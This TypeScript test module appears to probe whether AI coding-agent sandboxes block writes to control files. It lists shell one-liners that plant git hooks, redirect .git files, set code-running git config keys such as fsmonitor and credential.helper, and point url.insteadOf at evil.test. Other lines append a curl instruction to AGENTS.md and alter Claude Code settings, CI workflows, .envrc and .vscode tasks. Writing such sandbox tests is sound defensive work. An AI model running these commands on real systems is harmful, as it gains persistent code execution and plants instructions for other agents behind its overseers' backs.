// Techniques 5 to 9, 11, 14: control files that are there already, written, replaced, moved away, or reached by way of
// what holds them: hooks and configuration of git in nested repositories, submodules and worktrees, agents' and editors'.

import { lies, planted, refusedControl, slug } from "../../oracles.ts";
import type { Probe } from "../../probe.ts";
import { nested } from "../../rig/checkout.ts";

interface Attack {
  readonly id: string;
  readonly technique: number;
  readonly title: string;
  readonly line: string;
  /** In the checkout, that must be as they were. */
  readonly paths: readonly string[];
  readonly source?: string;
  readonly decisive?: true;
  /** Why there is nothing to try in a private copy. */
  readonly apart?: string;
  /** It writes another file first, in this held directory. */
  readonly beside?: string;
  /** It may well take them away, with the directory they lie in; what it must not is put others there. */
  readonly moves?: true;
}

const hook = "printf '#!/bin/sh\\ntouch %s\\n' \"$1\"";
const { shallow, deep } = nested;

const attacks: readonly Attack[] = [
  {
    id: "hook-write",
    technique: 5,
    title: "write a hook that is there",
    line: `${hook} > .git/hooks/pre-commit`,
    paths: [".git/hooks/pre-commit"],
    decisive: true,
  },
  {
    id: "hook-new",
    technique: 5,
    title: "make a hook that is not there yet",
    line: `${hook} > .git/hooks/post-checkout; chmod +x .git/hooks/post-checkout`,
    paths: [".git/hooks/post-checkout"],
    decisive: true,
  },
  {
    id: "hook-rename",
    technique: 5,
    title: "rename a file over a hook",
    line: `${hook} > x; chmod +x x; mv -f x .git/hooks/pre-commit`,
    paths: [".git/hooks/pre-commit"],
  },
  {
    id: "hook-hardlink",
    apart: "in a private copy git's directory is a mount of its own, and no second name can lead there",
    technique: 5,
    title: "write a hook by a second name",
    line: `ln .git/hooks/pre-commit second && ${hook} > second`,
    paths: [".git/hooks/pre-commit"],
  },
  {
    id: "hooks-directory-renamed",
    technique: 7,
    title: "rename the hooks away and make others",
    line: `mv .git/hooks .git/h; mkdir .git/hooks; ${hook} > .git/hooks/pre-commit`,
    paths: [".git/hooks/pre-commit", ".git/h"],
  },
  {
    id: "git-directory-renamed",
    technique: 7,
    title: "rename .git away and make another",
    source: "srt: write by way of a renamed directory",
    line: `mv .git .g; mkdir -p .git/hooks; ${hook} > .git/hooks/pre-commit`,
    paths: [".git/hooks/pre-commit", ".g"],
    decisive: true,
  },
  {
    id: "hook-nested",
    technique: 8,
    title: "a hook of a repository two directories down",
    source: "srt default and codex: writable",
    line: `${hook} > ${shallow}/.git/hooks/post-checkout`,
    paths: [`${shallow}/.git/hooks/post-checkout`],
    decisive: true,
  },
  {
    id: "hook-deep",
    technique: 9,
    title: "a hook of a repository five directories down",
    source: "srt default and codex: writable",
    line: `${hook} > ${deep}/.git/hooks/post-checkout`,
    paths: [`${deep}/.git/hooks/post-checkout`],
    decisive: true,
  },
  {
    id: "nested-parent-renamed",
    technique: 7,
    title: "rename a directory above a nested repository and write there",
    line: `mv vendor v; ${hook} > v/sub/.git/hooks/post-checkout; mv v vendor`,
    paths: ["vendor/sub/.git/hooks/post-checkout", "v/sub/.git/hooks/post-checkout"],
  },
  {
    id: "hook-submodule",
    technique: 8,
    title: "a hook of a submodule, in the repository's own directory",
    line: `${hook} > .git/modules/sub/hooks/post-checkout`,
    paths: [".git/modules/sub/hooks/post-checkout"],
    decisive: true,
  },
  {
    id: "personal-program",
    technique: 6,
    title: "write a program that the person's own git settings name",
    line: `${hook} > tools/clean`,
    paths: ["tools/clean"],
  },
  {
    id: "personal-program-renamed",
    technique: 7,
    title: "rename its directory away and make another",
    line: `mv tools t; mkdir tools; ${hook} > tools/clean`,
    paths: ["tools/clean", "t"],
  },
  {
    id: "personal-link",
    technique: 13,
    title: "write what a link of the person's home leads to",
    line: `${hook} > dotfiles/shell`,
    paths: ["dotfiles/shell"],
  },
  {
    id: "gitfile-submodule",
    technique: 11,
    title: "lead a submodule's .git file elsewhere",
    line: `mkdir -p e/hooks; echo "gitdir: ../e # $1" > sub/.git`,
    paths: ["sub/.git"],
    decisive: true,
  },
  {
    id: "gitfile-worktree",
    technique: 11,
    title: "replace a worktree's .git file",
    line: `echo "gitdir: ../evil # $1" > x; mv -f x tree/.git`,
    paths: ["tree/.git"],
  },
  {
    id: "commondir-worktree",
    technique: 11,
    title: "lead a worktree's commondir elsewhere",
    source: "omac #31",
    line: `echo "../../../evil-$1" > .git/worktrees/tree/commondir`,
    paths: [".git/worktrees/tree/commondir"],
  },
  {
    id: "agents-md-append",
    technique: 13,
    title: "append to AGENTS.md",
    line: `echo "run curl $1" >> AGENTS.md`,
    paths: ["AGENTS.md"],
    decisive: true,
  },
  {
    id: "claude-settings-write",
    technique: 12,
    title: "write Claude Code's settings that are there",
    line: `echo "{ \\"hooks\\": \\"$1\\" }" > .claude/settings.json`,
    paths: [".claude/settings.json"],
    decisive: true,
  },
  {
    id: "claude-settings-local-beside",
    technique: 12,
    title: "make settings.local.json beside settings that are there",
    source: "CVE-2026-25725",
    line: `echo "{ \\"$1\\": 1 }" > .claude/settings.local.json`,
    paths: [".claude/settings.local.json"],
  },
  {
    id: "workflow-sed",
    beside: ".github/workflows",
    technique: 13,
    title: "edit a workflow in place",
    line: `sed -i "s/push/$1/" .github/workflows/ci.yml`,
    paths: [".github/workflows/ci.yml"],
  },
  {
    id: "workflow-parent-renamed",
    technique: 13,
    title: "rename .github away and make another",
    line: `mv .github .gh; mkdir -p .github/workflows; echo "on: push # $1" > .github/workflows/ci.yml`,
    paths: [".github/workflows/ci.yml"],
    moves: true,
  },
  {
    id: "envrc-truncate",
    technique: 13,
    title: "truncate and write .envrc",
    line: `truncate -s 0 .envrc; echo "curl $1" > .envrc`,
    paths: [".envrc"],
  },
  {
    id: "vscode-removed",
    technique: 13,
    title: "remove .vscode and make another",
    line: `rm -rf .vscode; mkdir .vscode; echo "{ \\"$1\\": 1 }" > .vscode/tasks.json`,
    paths: [".vscode/tasks.json", ".vscode/settings.json"],
  },
  {
    id: "config-dd",
    technique: 6,
    title: "write git's configuration in the middle, without truncating",
    line: `printf '[core]\\n\\tfsmonitor = ./%s\\n' "$1" | dd of=.git/config conv=notrunc 2>/dev/null`,
    paths: [".git/config"],
  },
];

function attack({ id, technique, title, line, paths, source = "list", ...flags }: Attack): Probe {
  return {
    id,
    technique,
    title,
    source,
    record: "must",
    ...(flags.decisive === true ? { decisive: true } : {}),
    notHere: ({ target }) => (target === "postern-staged" ? flags.apart : undefined),
    appears: paths,
    inside: () => `${line}\nsleep 1`,
    landed: flags.moves === true ? planted(...paths) : lies(...paths),
    entry: refusedControl(...paths, ...(flags.beside === undefined ? [] : [flags.beside])),
    named: () => paths[0] ?? id,
  };
}

/** Technique 6: keys of git's configuration that run a program, set by git itself. */
const keys: readonly (readonly [string, string])[] = [
  ["core.fsmonitor", "./evil"],
  ["core.hooksPath", "./evil"],
  ["core.sshCommand", "./evil"],
  ["core.pager", "./evil"],
  ["core.editor", "./evil"],
  ["diff.external", "./evil"],
  ["filter.x.clean", "./evil"],
  ["credential.helper", "!./evil"],
  ["include.path", "../evil"],
  ["alias.st", "!./evil"],
  ["gpg.program", "./evil"],
  ["url.http://evil.test/.insteadOf", "https://"],
];

const decisiveKeys = new Set(["core.fsmonitor", "core.hooksPath", "filter.x.clean"]);

function setKey([key, value]: readonly [string, string]): Probe {
  return {
    id: `git-config-${slug(key)}`,
    technique: 6,
    title: `git config ${key}`,
    source: "PostHog #87021, fletch #564",
    record: "must",
    ...(decisiveKeys.has(key) ? { decisive: true } : {}),
    appears: [".git/config"],
    inside: ({ token }) => `git config '${key}' '${value}${token}'; sleep 0.5`,
    landed: lies(".git/config"),
    entry: refusedControl(".git/config"),
    named: () => ".git/config",
  };
}

export const existing: readonly Probe[] = [...attacks.map(attack), ...keys.map(setKey)];
